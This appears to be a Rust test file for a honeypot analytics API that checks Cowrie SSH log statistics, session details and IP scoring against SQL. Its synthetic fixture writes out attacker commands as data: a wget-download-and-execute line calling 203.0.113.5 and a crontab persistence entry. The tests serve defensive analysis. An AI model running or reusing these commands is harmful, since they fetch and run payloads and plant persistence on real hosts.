//! The honeypot analytics API over real Cowrie logs. The 2026 set
//! (`$VIGIL_CORPUS/samples/cowrie/pol-alvarezzz-aws-2026-real`) is decoded and stored the
//! way the daemon does it; every number the API gives is checked against plain SQL over
//! the raw JSON lines in a separate in-memory SQLite database.

mod common;

use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use common::{config, TestServer, READ_TOKEN, WRITE_TOKEN};
use rusqlite::{params, Connection};
use serde_json::{json, Value};
use vigil_pipeline::decode::FileDecoder;
use vigil_server::honeypot::GeoIp;
use vigil_server::AppState;
use vigil_store::{NewEvent, Store, StoreOptions, WriteBatch};

const SET_2026: &str = "samples/cowrie/pol-alvarezzz-aws-2026-real";

/// The corpus directory, or `None` (test skipped) when VIGIL_CORPUS is unset outside CI.
fn corpus() -> Option<PathBuf> {
    // A relative VIGIL_CORPUS (the README's `../shared/corpus`) is relative to the
    // repository root, where the test command runs; tests run in the crate's directory.
    let repo_root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..");
    match std::env::var_os("VIGIL_CORPUS").map(|dir| repo_root.join(dir)) {
        Some(dir) if dir.is_dir() => Some(dir),
        _ if std::env::var("CI").as_deref() == Ok("true") => {
            panic!("VIGIL_CORPUS must name the shared corpus directory when CI=true")
        }
        _ => {
            eprintln!("skipped: VIGIL_CORPUS is not set (or not a directory); honeypot corpus tests need it");
            None
        }
    }
}

/// The lines of the 2026 set, files in name order.
fn lines_2026(corpus: &std::path::Path) -> Vec<String> {
    let dir = corpus.join(SET_2026);
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap_or_else(|err| panic!("{}: {err}", dir.display()))
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|ext| ext == "jsonl"))
        .collect();
    files.sort();
    assert!(!files.is_empty(), "no .jsonl files in {}", dir.display());
    files
        .iter()
        .flat_map(|path| {
            std::fs::read_to_string(path)
                .unwrap()
                .lines()
                .filter(|l| !l.trim().is_empty())
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Decodes and stores `lines` as the daemon does (decoder → stored parts → NewEvent).
/// Returns how many were stored.
fn store_lines(store: &Store, lines: &[String]) -> usize {
    let mut decoder = FileDecoder::for_store(None);
    let prepared = decoder.prepare_lines(0, lines.iter().enumerate().map(|(i, l)| (i as u64, l.as_str())));
    assert!(prepared.dead.is_empty(), "dead letters: {:?}", prepared.dead.iter().take(3).collect::<Vec<_>>());
    let received_ms = 1_900_000_000_000;
    let events: Vec<NewEvent> = prepared
        .decoded
        .into_iter()
        .map(|decoded| {
            let parts = decoded.stored.expect("decoded for the store");
            NewEvent {
                event_id: uuid::Uuid::new_v4().to_string(),
                time_ms: decoded.time.map_or(received_ms, |t| t.timestamp_millis()),
                received_ms,
                source: parts.source.to_owned(),
                origin: "file:cowrie.json".to_owned(),
                class_uid: parts.class_uid,
                host: parts.host,
                src_ip: parts.src_ip,
                user: parts.user,
                ocsf: parts.ocsf,
                raw: parts.raw,
            }
        })
        .collect();
    let stored = events.len();
    for chunk in events.chunks(1000) {
        store.write_batch(&WriteBatch { events: chunk.to_vec(), ..WriteBatch::default() }).unwrap();
    }
    stored
}

/// The independent side: the raw lines in a table, with each line's event time in
/// milliseconds computed by SQLite from Cowrie's `timestamp`.
fn reference_db(lines: &[String]) -> Connection {
    let db = Connection::open_in_memory().unwrap();
    db.execute_batch("CREATE TABLE lines (raw TEXT NOT NULL)").unwrap();
    let tx = db.unchecked_transaction().unwrap();
    for line in lines {
        tx.execute("INSERT INTO lines (raw) VALUES (?1)", [line]).unwrap();
    }
    tx.commit().unwrap();
    // Every timestamp is `YYYY-MM-DDTHH:MM:SS.ffffffZ`; milliseconds truncated.
    let odd: i64 = db
        .query_row(
            "SELECT count(*) FROM lines WHERE json_extract(raw, '$.timestamp') NOT GLOB '????-??-??T??:??:??.*Z'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(odd, 0, "timestamps of an unexpected shape");
    db.execute_batch(
        "CREATE TABLE r AS SELECT
             json_extract(raw, '$.eventid') AS eventid,
             json_extract(raw, '$.session') AS session,
             json_extract(raw, '$.src_ip') AS src_ip,
             json_extract(raw, '$.username') AS username,
             json_extract(raw, '$.password') AS password,
             json_extract(raw, '$.input') AS input,
             CAST(strftime('%s', substr(json_extract(raw, '$.timestamp'), 1, 19)) AS INTEGER) * 1000
               + CAST(substr(json_extract(raw, '$.timestamp'), 21, 3) AS INTEGER) AS t,
             raw,
             rowid AS line
         FROM lines",
    )
    .unwrap();
    db
}

fn count(db: &Connection, sql: &str, from: i64, to: i64) -> u64 {
    db.query_row(sql, params![from, to], |r| r.get::<_, i64>(0)).unwrap() as u64
}

/// The numbers `/api/honeypot/stats` must give for `[from, to)`.
fn expected_stats(db: &Connection, from: i64, to: i64, top: i64) -> Value {
    let within = "t >= ?1 AND t < ?2";
    let n = |condition: &str| count(db, &format!("SELECT count(*) FROM r WHERE {within} AND {condition}"), from, to);
    let top_list = |sql: &str| -> Vec<Value> {
        let mut stmt = db.prepare(sql).unwrap();
        let rows = stmt
            .query_map(params![from, to, top], |row| {
                Ok(json!({"value": row.get::<_, Option<String>>(0)?, "count": row.get::<_, i64>(1)?}))
            })
            .unwrap();
        rows.map(Result::unwrap).collect()
    };
    json!({
        "sessions": count(db, &format!("SELECT count(DISTINCT session) FROM r WHERE {within} AND eventid = 'cowrie.session.connect'"), from, to),
        "unique_src_ips": count(db, &format!("SELECT count(DISTINCT src_ip) FROM r WHERE {within}"), from, to),
        "login_attempts": n("eventid IN ('cowrie.login.failed', 'cowrie.login.success')"),
        "failed_logins": n("eventid = 'cowrie.login.failed'"),
        "successful_logins": n("eventid = 'cowrie.login.success'"),
        "commands": n("eventid = 'cowrie.command.input'"),
        "failed_commands": n("eventid = 'cowrie.command.failed'"),
        "downloads": n("eventid = 'cowrie.session.file_download'"),
        "uploads": n("eventid = 'cowrie.session.file_upload'"),
        "top_usernames": top_list(&format!("SELECT username, count(*) AS c FROM r WHERE {within} AND eventid LIKE 'cowrie.login.%' GROUP BY username ORDER BY c DESC, username LIMIT ?3")),
        "top_passwords": top_list(&format!("SELECT password, count(*) AS c FROM r WHERE {within} AND eventid LIKE 'cowrie.login.%' GROUP BY password ORDER BY c DESC, password LIMIT ?3")),
        "top_src_ips": top_list(&format!("SELECT src_ip, count(DISTINCT session) AS c FROM r WHERE {within} AND eventid = 'cowrie.session.connect' GROUP BY src_ip ORDER BY c DESC, src_ip LIMIT ?3")),
        "top_credentials": expected_credentials(db, from, to, top),
        "top_commands": expected_commands(db, from, to, top),
    })
}

fn expected_credentials(db: &Connection, from: i64, to: i64, limit: i64) -> Vec<Value> {
    let mut stmt = db
        .prepare(
            "SELECT username, password, count(*) AS c, min(t), max(t), max(eventid = 'cowrie.login.success')
             FROM r WHERE t >= ?1 AND t < ?2 AND eventid IN ('cowrie.login.failed', 'cowrie.login.success')
             GROUP BY username, password ORDER BY c DESC, username, password LIMIT ?3",
        )
        .unwrap();
    let rows = stmt
        .query_map(params![from, to, limit], |row| {
            Ok(json!({
                "username": row.get::<_, Option<String>>(0)?,
                "password": row.get::<_, Option<String>>(1)?,
                "count": row.get::<_, i64>(2)?,
                "first_seen_ms": row.get::<_, i64>(3)?,
                "last_seen_ms": row.get::<_, i64>(4)?,
                "success": row.get::<_, i64>(5)? == 1,
            }))
        })
        .unwrap();
    rows.map(Result::unwrap).collect()
}

/// (input, count) pairs; categories are the store's own and checked elsewhere.
fn expected_commands(db: &Connection, from: i64, to: i64, limit: i64) -> Vec<Value> {
    let mut stmt = db
        .prepare(
            "SELECT input, count(*) AS c FROM r WHERE t >= ?1 AND t < ?2 AND eventid = 'cowrie.command.input'
             GROUP BY input ORDER BY c DESC, input LIMIT ?3",
        )
        .unwrap();
    let rows = stmt
        .query_map(params![from, to, limit], |row| {
            Ok(json!({"input": row.get::<_, Option<String>>(0)?, "count": row.get::<_, i64>(1)?}))
        })
        .unwrap();
    rows.map(Result::unwrap).collect()
}

fn without_categories(items: &Value) -> Vec<Value> {
    items
        .as_array()
        .expect("a list")
        .iter()
        .map(|item| {
            let category = item["category"].as_str().expect("a category");
            assert!(
                ["miner", "persistence", "lateral_movement", "execution", "download", "recon", "other"]
                    .contains(&category),
                "{item}"
            );
            assert_eq!(item["categories"][0], item["category"], "the primary category leads the list: {item}");
            json!({"input": item["input"], "count": item["count"]})
        })
        .collect()
}

fn ms(iso: &str) -> i64 {
    chrono::DateTime::parse_from_rfc3339(iso).unwrap().timestamp_millis()
}

fn open_server(lines: &[String]) -> TestServer {
    TestServer::start_with(config(), |store| {
        let stored = store_lines(store, lines);
        assert_eq!(stored, lines.len(), "every line of the set is stored");
    })
}

#[test]
fn stats_and_top_lists_equal_plain_sql_over_the_2026_set() {
    let Some(corpus) = corpus() else { return };
    let lines = lines_2026(&corpus);
    let db = reference_db(&lines);
    let server = open_server(&lines);

    let ranges: [(Option<&str>, Option<&str>); 4] = [
        (None, None),
        (Some("2026-03-20T00:00:00Z"), Some("2026-03-21T00:00:00Z")),
        (Some("2026-03-19T12:00:00Z"), Some("2026-03-22T06:30:00Z")),
        (Some("2026-03-25T00:00:00Z"), None),
    ];
    for (from, to) in ranges {
        let from_ms = from.map_or(i64::MIN, ms);
        let to_ms = to.map_or(i64::MAX, ms);
        let mut query = vec!["top=15".to_owned()];
        if let Some(from) = from {
            query.push(format!("from={from}"));
        }
        if let Some(to) = to {
            query.push(format!("to={to}"));
        }
        let reply = server.get(&format!("/api/honeypot/stats?{}", query.join("&")), None);
        assert_eq!(reply.status, 200, "{}", reply.body);
        let got = reply.json();
        let want = expected_stats(&db, from_ms, to_ms, 15);
        for key in [
            "sessions",
            "unique_src_ips",
            "login_attempts",
            "failed_logins",
            "successful_logins",
            "commands",
            "failed_commands",
            "downloads",
            "uploads",
            "top_usernames",
            "top_passwords",
            "top_src_ips",
            "top_credentials",
        ] {
            assert_eq!(got[key], want[key], "{key} over [{from:?}, {to:?})");
        }
        assert_eq!(without_categories(&got["top_commands"]), want["top_commands"].as_array().unwrap().clone());
        if from.is_none() {
            eprintln!(
                "2026 set, whole range: sessions {} unique IPs {} logins {} (failed {}, successful {}) commands {} \
                 (failed {}) downloads {} uploads {}; top credential {}; top command {}",
                want["sessions"],
                want["unique_src_ips"],
                want["login_attempts"],
                want["failed_logins"],
                want["successful_logins"],
                want["commands"],
                want["failed_commands"],
                want["downloads"],
                want["uploads"],
                want["top_credentials"][0],
                want["top_commands"][0],
            );
            // The set is real attack traffic: all of these happen in it.
            for key in ["sessions", "failed_logins", "successful_logins", "commands", "uploads"] {
                assert!(want[key].as_u64().unwrap() > 0, "{key}");
            }
        }
    }

    // The top-list endpoints, default and explicit limits, with and without a range.
    for (path, from, to, limit) in [
        ("credentials", None, None, 10),
        ("credentials", Some("2026-03-21T00:00:00Z"), Some("2026-03-23T00:00:00Z"), 50),
        ("credentials", None, None, 1000),
        ("commands", None, None, 10),
        ("commands", Some("2026-03-19T00:00:00Z"), Some("2026-03-20T00:00:00Z"), 5),
        ("commands", None, None, 1000),
    ] {
        let mut query = Vec::new();
        if limit != 10 {
            query.push(format!("limit={limit}"));
        }
        if let Some(from) = from {
            query.push(format!("from={from}"));
        }
        if let Some(to) = to {
            query.push(format!("to={to}"));
        }
        let reply = server.get(&format!("/api/honeypot/{path}/top?{}", query.join("&")), None);
        assert_eq!(reply.status, 200, "{}", reply.body);
        let items = &reply.json()["items"];
        let (from_ms, to_ms) = (from.map_or(i64::MIN, ms), to.map_or(i64::MAX, ms));
        if path == "credentials" {
            assert_eq!(items.as_array().unwrap(), &expected_credentials(&db, from_ms, to_ms, limit), "{path} {from:?}");
        } else {
            assert_eq!(without_categories(items), expected_commands(&db, from_ms, to_ms, limit), "{path} {from:?}");
        }
    }

    // Known categories of real commands.
    let reply = server.get("/api/honeypot/commands/top?limit=1000", None);
    let items = reply.json()["items"].as_array().unwrap().clone();
    let category_of =
        |input: &str| items.iter().find(|i| i["input"] == input).map(|i| i["category"].as_str().unwrap().to_owned());
    assert_eq!(category_of("uname -s -v -n -r -m").as_deref(), Some("recon"));
    assert_eq!(category_of("cat /proc/cpuinfo").as_deref(), Some("recon"));
    let dropper = items
        .iter()
        .find(|i| i["input"].as_str().unwrap().starts_with("chmod +x ./."))
        .expect("the sshd dropper is in the set");
    assert_eq!(dropper["category"], "execution");
}

#[test]
fn session_detail_matches_the_raw_records_of_a_real_session() {
    let Some(corpus) = corpus() else { return };
    let lines = lines_2026(&corpus);
    let db = reference_db(&lines);
    let server = open_server(&lines);

    // The sessions with the most commands, and one with a failed command among them.
    let busiest: Vec<String> = db
        .prepare(
            "SELECT session FROM r WHERE eventid = 'cowrie.command.input' GROUP BY session
             ORDER BY count(*) DESC, session LIMIT 3",
        )
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let with_failure: String =
        db.query_row("SELECT min(session) FROM r WHERE eventid = 'cowrie.command.failed'", [], |r| r.get(0)).unwrap();
    let with_upload: String = db
        .query_row("SELECT min(session) FROM r WHERE eventid = 'cowrie.session.file_upload'", [], |r| r.get(0))
        .unwrap();
    for session in busiest.iter().chain([&with_failure, &with_upload]) {
        let reply = server.get(&format!("/api/honeypot/sessions/{session}"), None);
        assert_eq!(reply.status, 200, "{}", reply.body);
        let got = reply.json();
        assert_eq!(got["session"], session.as_str());

        let rows = |sql: &str| -> Vec<Vec<Value>> {
            let mut stmt = db.prepare(sql).unwrap();
            let n = stmt.column_count();
            stmt.query_map([session], |row| {
                (0..n)
                    .map(|i| {
                        Ok(match row.get_ref(i)? {
                            rusqlite::types::ValueRef::Null => Value::Null,
                            rusqlite::types::ValueRef::Integer(v) => json!(v),
                            rusqlite::types::ValueRef::Real(v) => json!(v),
                            rusqlite::types::ValueRef::Text(t) => json!(String::from_utf8_lossy(t)),
                            rusqlite::types::ValueRef::Blob(_) => Value::Null,
                        })
                    })
                    .collect()
            })
            .unwrap()
            .map(Result::unwrap)
            .collect()
        };
        let raw: Vec<Value> =
            rows("SELECT raw FROM r WHERE session = ?1 ORDER BY t, line").into_iter().map(|r| r[0].clone()).collect();
        assert_eq!(got["raw"].as_array().unwrap(), &raw, "raw records of {session}");
        assert_eq!(got["record_count"], raw.len());
        assert_eq!(got["truncated"], false);

        let auth: Vec<Value> = rows(
            "SELECT t, username, password, eventid = 'cowrie.login.success' FROM r
             WHERE session = ?1 AND eventid LIKE 'cowrie.login.%' ORDER BY t, line",
        )
        .into_iter()
        .map(|r| json!({"time_ms": r[0], "username": r[1], "password": r[2], "success": r[3] == json!(1)}))
        .collect();
        assert_eq!(got["auth_attempts"].as_array().unwrap(), &auth, "auth attempts of {session}");

        let commands: Vec<Value> = rows(
            "SELECT t, input, EXISTS (SELECT 1 FROM r f WHERE f.session = r.session
                                      AND f.eventid = 'cowrie.command.failed' AND f.input = r.input)
             FROM r WHERE session = ?1 AND eventid = 'cowrie.command.input' ORDER BY t, line",
        )
        .into_iter()
        .map(|r| json!({"time_ms": r[0], "input": r[1], "failed": r[2] == json!(1)}))
        .collect();
        let got_commands: Vec<Value> = got["commands"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| json!({"time_ms": c["time_ms"], "input": c["input"], "failed": c["failed"]}))
            .collect();
        assert_eq!(got_commands, commands, "commands of {session}");

        let one = |sql: &str| rows(sql).into_iter().next().map(|r| r[0].clone()).unwrap_or(Value::Null);
        assert_eq!(
            got["src_ip"],
            one("SELECT src_ip FROM r WHERE session = ?1 AND eventid = 'cowrie.session.connect'")
        );
        assert_eq!(
            got["src_port"],
            one("SELECT json_extract(raw, '$.src_port') FROM r WHERE session = ?1 AND eventid = 'cowrie.session.connect'")
        );
        assert_eq!(
            got["client_version"],
            one(
                "SELECT json_extract(raw, '$.version') FROM r WHERE session = ?1 AND eventid = 'cowrie.client.version'"
            )
        );
        assert_eq!(got["start_ms"], one("SELECT t FROM r WHERE session = ?1 AND eventid = 'cowrie.session.connect'"));
        assert_eq!(got["end_ms"], one("SELECT t FROM r WHERE session = ?1 AND eventid = 'cowrie.session.closed'"));
        let duration = one("SELECT CAST(json_extract(raw, '$.duration') AS REAL) FROM r WHERE session = ?1 AND eventid = 'cowrie.session.closed'");
        assert_eq!(got["duration_secs"].as_f64(), duration.as_f64(), "duration of {session}");

        let uploads: Vec<Value> = rows(
            "SELECT json_extract(raw, '$.shasum'), json_extract(raw, '$.outfile'), json_extract(raw, '$.filename')
             FROM r WHERE session = ?1 AND eventid = 'cowrie.session.file_upload' ORDER BY t, line",
        )
        .into_iter()
        .map(|r| json!({"shasum": r[0], "outfile": r[1], "filename": r[2]}))
        .collect();
        let got_uploads: Vec<Value> = got["uploads"]
            .as_array()
            .unwrap()
            .iter()
            .map(|u| json!({"shasum": u["shasum"], "outfile": u["outfile"], "filename": u["filename"]}))
            .collect();
        assert_eq!(got_uploads, uploads, "uploads of {session}");
    }
    // The failed command of that session is marked.
    let got = server.get(&format!("/api/honeypot/sessions/{with_failure}"), None).json();
    assert!(got["commands"].as_array().unwrap().iter().any(|c| c["failed"] == true));
}

#[test]
fn ip_intelligence_matches_plain_sql_over_the_2026_set() {
    let Some(corpus) = corpus() else { return };
    let lines = lines_2026(&corpus);
    let db = reference_db(&lines);
    let server = open_server(&lines);

    let mut ips: Vec<String> = db
        .prepare("SELECT src_ip FROM r GROUP BY src_ip ORDER BY count(*) DESC, src_ip LIMIT 3")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let uploader: String = db
        .query_row("SELECT min(src_ip) FROM r WHERE eventid = 'cowrie.session.file_upload'", [], |r| r.get(0))
        .unwrap();
    ips.push(uploader.clone());
    for ip in &ips {
        let reply = server.get(&format!("/api/honeypot/ips/{ip}"), None);
        assert_eq!(reply.status, 200, "{}", reply.body);
        let got = reply.json();
        let q = |sql: &str| db.query_row(sql, [ip], |r| r.get::<_, i64>(0)).unwrap();
        assert_eq!(got["ip"], ip.as_str());
        assert_eq!(got["records"], q("SELECT count(*) FROM r WHERE src_ip = ?1"));
        assert_eq!(got["first_seen_ms"], q("SELECT min(t) FROM r WHERE src_ip = ?1"));
        assert_eq!(got["last_seen_ms"], q("SELECT max(t) FROM r WHERE src_ip = ?1"));
        assert_eq!(got["sessions"], q("SELECT count(DISTINCT session) FROM r WHERE src_ip = ?1"));
        assert_eq!(
            got["login_attempts"],
            q("SELECT count(*) FROM r WHERE src_ip = ?1 AND eventid LIKE 'cowrie.login.%'")
        );
        assert_eq!(
            got["successful_logins"],
            q("SELECT count(*) FROM r WHERE src_ip = ?1 AND eventid = 'cowrie.login.success'")
        );
        assert_eq!(got["commands"], q("SELECT count(*) FROM r WHERE src_ip = ?1 AND eventid = 'cowrie.command.input'"));
        assert_eq!(
            got["uploads"],
            q("SELECT count(*) FROM r WHERE src_ip = ?1 AND eventid = 'cowrie.session.file_upload'")
        );
        let score = got["score"].as_u64().unwrap();
        assert!(score <= 100);
        assert!(got.get("geo").is_none(), "no GeoIP database configured");
    }
    // The uploader logged in and pushed a file: at least 15 + 15 by the documented weights.
    let got = server.get(&format!("/api/honeypot/ips/{uploader}"), None).json();
    assert!(got["score"].as_u64().unwrap() >= 30, "{got}");
}

// ---- synthetic stores: errors, bounds, auth, hostile records ----

fn cowrie_event(i: usize, source: &str, raw: String) -> NewEvent {
    NewEvent {
        event_id: format!("00000000-0000-4000-8000-{i:012}"),
        time_ms: 1_795_514_400_000 + i as i64 * 1000,
        received_ms: 1_795_514_400_000,
        source: source.to_owned(),
        origin: "http".to_owned(),
        class_uid: None,
        host: None,
        src_ip: Some("198.51.100.9".to_owned()),
        user: None,
        ocsf: "{}".to_owned(),
        raw,
    }
}

/// A small session from 198.51.100.9 plus records that must not count: a Cowrie row
/// whose raw text is not JSON, and a syslog row that looks like a Cowrie login.
fn fill_synthetic(store: &Store) {
    let line = |eventid: &str, extra: &str| {
        format!(
            r#"{{"eventid":"{eventid}","session":"abc123abc123","src_ip":"198.51.100.9","timestamp":"2026-11-24T10:00:00Z"{extra}}}"#
        )
    };
    let events = vec![
        cowrie_event(
            0,
            "cowrie",
            line("cowrie.session.connect", r#","src_port":40000,"dst_ip":"10.0.0.2","dst_port":22"#),
        ),
        cowrie_event(1, "cowrie", line("cowrie.login.failed", r#","username":"root","password":"123456""#)),
        cowrie_event(2, "cowrie", line("cowrie.login.success", r#","username":"root","password":"root""#)),
        cowrie_event(
            3,
            "cowrie",
            line("cowrie.command.input", r#","input":"cd /tmp; wget http://203.0.113.5/x; chmod +x x; ./x""#),
        ),
        cowrie_event(4, "cowrie", line("cowrie.command.input", r#","input":"echo '* * * * * /tmp/x' | crontab -""#)),
        cowrie_event(
            5,
            "cowrie",
            line(
                "cowrie.session.file_download",
                r#","url":"http://203.0.113.5/x","shasum":"ab12","outfile":"dl/ab12""#,
            ),
        ),
        cowrie_event(6, "cowrie", line("cowrie.session.closed", r#","duration":7.5"#)),
        cowrie_event(7, "cowrie", "this is { not JSON".to_owned()),
        cowrie_event(8, "syslog", line("cowrie.login.failed", r#","username":"fake","password":"fake""#)),
    ];
    store.write_batch(&WriteBatch { events, ..WriteBatch::default() }).unwrap();
}

#[test]
fn synthetic_session_counts_and_hostile_rows_are_ignored() {
    let server = TestServer::start_with(config(), fill_synthetic);
    let stats = server.get("/api/honeypot/stats", None);
    assert_eq!(stats.status, 200, "{}", stats.body);
    let stats = stats.json();
    assert_eq!(stats["sessions"], 1);
    assert_eq!(stats["login_attempts"], 2, "the syslog look-alike is not counted");
    assert_eq!(stats["failed_logins"], 1);
    assert_eq!(stats["downloads"], 1);
    assert_eq!(stats["top_usernames"], json!([{"value": "root", "count": 2}]));

    let session = server.get("/api/honeypot/sessions/abc123abc123", None).json();
    assert_eq!(session["duration_secs"], 7.5, "numeric duration");
    assert_eq!(session["dst_ip"], "10.0.0.2");
    assert_eq!(session["src_port"], 40000);
    assert_eq!(session["downloads"][0]["url"], "http://203.0.113.5/x");
    assert_eq!(session["commands"][0]["category"], "execution");
    assert_eq!(session["commands"][0]["categories"], json!(["execution", "download"]));
    assert_eq!(session["commands"][1]["category"], "persistence");
    assert_eq!(session["raw"].as_array().unwrap().len(), 7, "the non-JSON row has no session");

    let ip = server.get("/api/honeypot/ips/198.51.100.9", None).json();
    assert_eq!(ip["command_categories"], json!(["persistence", "execution", "download"]));
    // 2 attempts → 0; success 15; 2 commands 2; a file 15; persistence 25, execution 15, download 15.
    assert_eq!(ip["score"], 87);
    assert_eq!(ip["records"], 8, "every cowrie row of the IP, the unreadable one too");
}

#[test]
fn errors_are_json_400_or_404() {
    let server = TestServer::start_with(config(), fill_synthetic);
    for (path, status, needle) in [
        ("/api/honeypot/sessions/ffffffffffff", 404, "session"),
        (&format!("/api/honeypot/sessions/{}", "a".repeat(200)), 404, "session"),
        ("/api/honeypot/ips/198.51.100.200", 404, "IP"),
        ("/api/honeypot/ips/999.1.1.1", 400, "IP"),
        ("/api/honeypot/ips/not-an-ip", 400, "IP"),
        ("/api/honeypot/stats?form=2026-01-01", 400, "`form`"),
        ("/api/honeypot/stats?from=yesterday", 400, "`from`"),
        ("/api/honeypot/stats?from=2026-02-01&to=2026-01-01", 400, "`from`"),
        ("/api/honeypot/stats?top=0", 400, "`top`"),
        ("/api/honeypot/credentials/top?limit=1001", 400, "`limit`"),
        ("/api/honeypot/credentials/top?limit=0", 400, "`limit`"),
        ("/api/honeypot/credentials/top?limit=-1", 400, "`limit`"),
        ("/api/honeypot/credentials/top?top=5", 400, "`top`"),
        ("/api/honeypot/commands/top?limit=1001", 400, "`limit`"),
        ("/api/honeypot/commands/top?q=x", 400, "`q`"),
        ("/api/honeypot/sessions/abc123abc123?verbose=1", 400, "`verbose`"),
        ("/api/honeypot/ips/198.51.100.9?x=1", 400, "`x`"),
    ] {
        let reply = server.get(path, None);
        assert_eq!(reply.status, status, "{path}: {}", reply.body);
        assert!(reply.error().contains(needle), "{path}: {}", reply.error());
    }
}

#[test]
fn limits_bound_the_lists() {
    let server = TestServer::start_with(config(), |store| {
        // 30 distinct credentials and commands.
        let events = (0..60)
            .map(|i| {
                let raw = if i < 30 {
                    format!(r#"{{"eventid":"cowrie.login.failed","session":"s{i}","src_ip":"198.51.100.1","username":"u{i}","password":"p"}}"#)
                } else {
                    format!(r#"{{"eventid":"cowrie.command.input","session":"s{i}","src_ip":"198.51.100.1","input":"echo {i}"}}"#)
                };
                cowrie_event(i, "cowrie", raw)
            })
            .collect();
        store.write_batch(&WriteBatch { events, ..WriteBatch::default() }).unwrap();
    });
    for (path, limit, want) in [
        ("credentials", None, 10),
        ("credentials", Some(3), 3),
        ("credentials", Some(1000), 30),
        ("commands", None, 10),
        ("commands", Some(1), 1),
        ("commands", Some(1000), 30),
    ] {
        let query = limit.map(|l| format!("?limit={l}")).unwrap_or_default();
        let reply = server.get(&format!("/api/honeypot/{path}/top{query}"), None);
        assert_eq!(reply.status, 200, "{}", reply.body);
        assert_eq!(reply.json()["items"].as_array().unwrap().len(), want, "{path} {limit:?}");
    }
    let stats = server.get("/api/honeypot/stats?top=2", None).json();
    assert_eq!(stats["top_credentials"].as_array().unwrap().len(), 2);
    assert_eq!(stats["top_usernames"].as_array().unwrap().len(), 2);
}

#[test]
fn reads_need_the_read_token_when_one_is_set() {
    let mut config = config();
    config.read_token = Some(READ_TOKEN.to_owned());
    let server = TestServer::start_with(config, fill_synthetic);
    for path in [
        "/api/honeypot/sessions/abc123abc123",
        "/api/honeypot/stats",
        "/api/honeypot/credentials/top",
        "/api/honeypot/commands/top",
        "/api/honeypot/ips/198.51.100.9",
    ] {
        assert_eq!(server.get(path, None).status, 401, "{path}");
        assert_eq!(server.get(path, Some("wrong-token")).status, 401, "{path}");
        assert_eq!(server.get(path, Some(READ_TOKEN)).status, 200, "{path}");
        assert_eq!(server.get(path, Some(WRITE_TOKEN)).status, 200, "{path}");
    }
}

// ---- GeoIP: a MaxMind DB written here, byte by byte, from the public format spec ----

enum Mmdb<'a> {
    Str(&'a str),
    U16(u16),
    U32(u32),
    U64(u64),
    Map(Vec<(&'a str, Mmdb<'a>)>),
    Array(Vec<Mmdb<'a>>),
}

/// Control byte(s): 3 type bits and 5 size bits; types above 7 are "extended" (type
/// bits 0, then a byte holding type − 7); sizes of 29 and more spill into 1–3 bytes.
fn control(out: &mut Vec<u8>, kind: u8, size: usize) {
    let (size_bits, spill): (u8, Vec<u8>) = match size {
        0..=28 => (size as u8, vec![]),
        29..=284 => (29, vec![(size - 29) as u8]),
        _ => {
            let n = size - 285;
            (30, vec![(n >> 8) as u8, n as u8])
        }
    };
    if kind <= 7 {
        out.push(kind << 5 | size_bits);
    } else {
        out.push(size_bits);
        out.push(kind - 7);
    }
    out.extend(spill);
}

fn encode(value: &Mmdb<'_>, out: &mut Vec<u8>) {
    let uint = |out: &mut Vec<u8>, kind: u8, v: u64| {
        let bytes: Vec<u8> = v.to_be_bytes().into_iter().skip_while(|b| *b == 0).collect();
        control(out, kind, bytes.len());
        out.extend(bytes);
    };
    match value {
        Mmdb::Str(s) => {
            control(out, 2, s.len());
            out.extend(s.as_bytes());
        }
        Mmdb::U16(v) => uint(out, 5, u64::from(*v)),
        Mmdb::U32(v) => uint(out, 6, u64::from(*v)),
        Mmdb::U64(v) => uint(out, 9, *v),
        Mmdb::Map(pairs) => {
            control(out, 7, pairs.len());
            for (key, value) in pairs {
                encode(&Mmdb::Str(key), out);
                encode(value, out);
            }
        }
        Mmdb::Array(items) => {
            control(out, 11, items.len());
            for item in items {
                encode(item, out);
            }
        }
    }
}

/// An IPv4 database (24-bit records) mapping one network to `record`; every other
/// address is absent.
fn write_mmdb(network: [u8; 4], prefix_len: usize, database_type: &str, record: Mmdb<'_>) -> Vec<u8> {
    let node_count = prefix_len;
    let address = u32::from_be_bytes(network);
    let empty = node_count as u32;
    let data_pointer = node_count as u32 + 16; // the record is at offset 0 of the data section
    let mut out = Vec::new();
    for depth in 0..prefix_len {
        let bit = (address >> (31 - depth)) & 1;
        let next = if depth + 1 < prefix_len { depth as u32 + 1 } else { data_pointer };
        let (left, right) = if bit == 0 { (next, empty) } else { (empty, next) };
        out.extend(&left.to_be_bytes()[1..]);
        out.extend(&right.to_be_bytes()[1..]);
    }
    out.extend([0u8; 16]);
    encode(&record, &mut out);
    out.extend(b"\xAB\xCD\xEFMaxMind.com");
    let metadata = Mmdb::Map(vec![
        ("binary_format_major_version", Mmdb::U16(2)),
        ("binary_format_minor_version", Mmdb::U16(0)),
        ("build_epoch", Mmdb::U64(1_795_514_400)),
        ("database_type", Mmdb::Str(database_type)),
        ("description", Mmdb::Map(vec![("en", Mmdb::Str("Vigil test database"))])),
        ("ip_version", Mmdb::U16(4)),
        ("languages", Mmdb::Array(vec![Mmdb::Str("en")])),
        ("node_count", Mmdb::U32(node_count as u32)),
        ("record_size", Mmdb::U16(24)),
    ]);
    encode(&metadata, &mut out);
    out
}

fn test_geoip_files(dir: &std::path::Path) -> (PathBuf, PathBuf) {
    let asn = write_mmdb(
        [198, 51, 100, 0],
        24,
        "GeoLite2-ASN",
        Mmdb::Map(vec![
            ("autonomous_system_number", Mmdb::U32(64_500)),
            ("autonomous_system_organization", Mmdb::Str("Example Hosting")),
        ]),
    );
    let country = write_mmdb(
        [198, 51, 0, 0],
        16,
        "GeoLite2-Country",
        Mmdb::Map(vec![(
            "country",
            Mmdb::Map(vec![
                ("iso_code", Mmdb::Str("NL")),
                ("names", Mmdb::Map(vec![("de", Mmdb::Str("Niederlande")), ("en", Mmdb::Str("Netherlands"))])),
            ]),
        )]),
    );
